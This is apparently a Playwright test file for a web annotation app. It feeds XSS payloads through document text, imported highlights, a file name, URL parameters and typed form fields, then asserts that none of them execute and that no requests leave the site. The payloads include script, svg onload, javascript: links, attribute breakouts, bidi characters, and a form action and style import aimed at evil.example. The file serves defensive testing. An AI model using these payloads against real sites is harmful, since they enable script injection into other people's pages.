"""Hostile texts, annotations, file names and forms at the desk: all of it is text, and none of it runs."""

import json
from collections.abc import Iterator
from html import escape

import pytest
from playwright.sync_api import Dialog, Page, expect

from tests.authoring.desk_project import laid
from tests.chromium import needs_chromium
from tests.commands import run
from tests.project_copies import copy_toy

pytestmark = needs_chromium

ROWS = (
    "<svg onload=alert(1)><script>alert(2)</script></svg> was drawn there.",
    '<math><mi xlink:href="javascript:alert(3)">x</mi></math> was said.',
    "[a](javascript:alert(4)) and <a href=javascript:alert(5)>b</a> are links.",
    "\u202eevil\u202c text \u2066of\u2069 signs \u200f stands here.",
    f"W{'o' * 6000}rd is long.",
    "</script><script>alert(6)</script> ends it. </textarea><img src=x onerror=alert(7)>",
    "</noscript><iframe srcdoc='<script>alert(8)</script>'></iframe> is a frame.",
    "\" autofocus onfocus=alert(9) x=\" breaks out. ' onclick='alert(10)",
    "{{ 7*7 }} {% raw %} [@nobody-001] [[nothing]] ${alert(11)} `x` are signs.",
    "<!-- --!><script>alert(12)</script> --> is a remark.",
    "<style>@import 'http://evil.example/x.css';</style> is style.",
    "&lt;img src=x onerror=alert(13)&gt; is written twice. &#x202e;",
    f"A{chr(0x301) * 400} has a pile of marks.",
)
COMMENTS = (
    (
        "was drawn there.",
        "<!-- --><script>alert(42)</script><svg onload=alert(43)> \u202eevil [x](javascript:alert(44))",
    ),
    ("is a remark.", "</textarea></form><form action=http://evil.example><input name=x>"),
    ("is a frame.", "'; ---\n- id: draft-000000000000\n  at: x"),
)
FILE = 'x"><img src=x onerror=alert(99)>.html'
FOUND = """() => [...document.querySelectorAll("main *, header *")].filter((each) =>
  /^(script|img|iframe|svg|math|style|object|embed)$/i.test(each.localName) ||
  each.getAttributeNames().some((name) => name.startsWith("on")) ||
  /^javascript:/i.test(each.getAttribute("href") || "")).map((each) => each.outerHTML)
  .concat([...document.forms].map((form) => form.action).filter((action) => !action.startsWith(location.origin)))"""


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    root = copy_toy(tmp_path_factory.mktemp("hostile") / "toy")
    file, marked = root.parent / FILE, root.parent / "marked.json"
    body = "".join(f"<p>{escape(row)}</p>" for row in ROWS)
    file.write_text(f"<!doctype html><title>H</title><article><h1>&lt;svg/onload=alert(20)&gt;</h1>{body}", "utf-8")
    label = "\\</script>\\<b>hos"
    made = ("--id", "hos", "--label", label, "--kind", "report", "--language", "en", "--about", "It is.")
    assert run("new.py", root, "source", "--text", str(file), *made).returncode == 0
    rows = [
        {"uri": "x", "id": f"<script>{comment}", "user": "acct:<img src=x onerror=alert(41)>@x", "text": comment,
         "tags": ["<b onclick=alert(45)>"], "target": [{"selector": [{"type": "TextQuoteSelector", "exact": words}]}]}
        for words, comment in COMMENTS
    ]  # fmt: skip
    marked.write_text(json.dumps({"rows": rows}), "utf-8")
    done = run("import_highlights.py", root, str(marked), "--source", "hos", "--text", str(file), "--keep-author")
    assert "3 of 3 highlights added" in done.stdout
    with laid(root, file, "hos") as server:
        yield server.address


@pytest.fixture
def desk(page: Page, address: str) -> Iterator[Page]:
    wrong = list[str]()

    def said(dialog: Dialog) -> None:
        wrong.extend([] if dialog.type == "beforeunload" else [dialog.message])
        dialog.accept()

    page.on("dialog", said)
    page.on("request", lambda request: wrong.extend([] if request.url.startswith(address) else [request.url]))
    page.set_viewport_size({"width": 390, "height": 900})
    page.goto(address)
    yield page
    assert wrong == []


def test_nothing_in_texts_and_annotations_runs(desk: Page, address: str) -> None:
    drafts = desk.get_by_role("link", name="Make a claim of")
    forms = [str(each.get_attribute("href")) for each in drafts.all()]
    assert len(forms) == len(COMMENTS)
    asked = [f"?at=s1.p{number}.s1" for number in range(1, len(ROWS) + 1)]
    for place in (
        "",
        *forms,
        *asked,
        "?at=%3Cscript%3Ealert(50)%3C/script%3E",
        "?mend=%3Cscript%3Ealert(51)%3C/script%3E",
    ):
        desk.goto(address + place)
        assert desk.evaluate(FOUND) == []
        assert desk.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth") == 0
    assert ROWS[0] in desk.locator("#at-s1-p1").inner_text()


def test_nothing_that_is_typed_runs(desk: Page, address: str) -> None:
    typed = "</textarea><script>alert(60)</script> <svg onload=alert(61)>"
    desk.goto(f"{address}?at=s1.p5.s1")
    desk.get_by_label("What it says").fill(typed)
    desk.get_by_label("Whose words").fill('"><img src=x onerror=alert(62)>')
    desk.get_by_role("button", name="New term").click()
    desk.get_by_label("Term", exact=True).fill("<img src=x onerror=alert(63)>")
    desk.get_by_label("Definition").fill("</script>{{ x }}")
    desk.get_by_role("button", name="Make the term").click()
    expect(desk.get_by_role("alert")).to_contain_text("This cannot be saved yet.")
    assert desk.evaluate(FOUND) == []
    desk.get_by_role("button", name="Back to the claim").click()
    expect(desk.get_by_label("What it says")).to_have_value(typed)
    assert desk.evaluate(FOUND) == []
